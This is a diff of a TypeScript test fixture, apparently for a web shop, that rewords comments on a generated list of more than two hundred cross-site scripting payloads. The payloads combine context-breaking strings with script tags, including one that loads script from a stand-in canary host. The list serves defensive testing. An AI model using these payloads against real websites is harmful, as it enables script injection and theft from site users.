@@ -1,10 +1,10 @@
-/** Whom a payload that works would tell. Nothing of this name exists, and no page of the shop may ask for it. */
+/** The host that a working payload would call. It does not exist, and no page of the shop may request it. */
 export const CANARY = 'canary.invalid'
 
-/** What ends the place in which a text may stand, so that markup can begin after it. */
+/** Endings of the places in which a text may be, so that markup can begin after them. */
 const BREAKOUTS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '</style>', '-->'] as const
 
-/** Markup that runs by itself, or asks for something from elsewhere. */
+/** Markup that runs by itself, or requests something from another host. */
 const MARKUP = [
   '<script>alert(1)</script>',
   `<script src=//${CANARY}/x.js></script>`,
@@ -53,7 +53,7 @@ const OTHERS = [
   '\u2028alert(1)//',
 ] as const
 
-/** Two hundred and more texts that nobody means well with (spec T5, P15). */
+/** More than two hundred hostile texts (spec T5, P15). */
 export const PAYLOADS: readonly string[] = [
   ...BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => breakout + markup)),
   ...OTHERS,
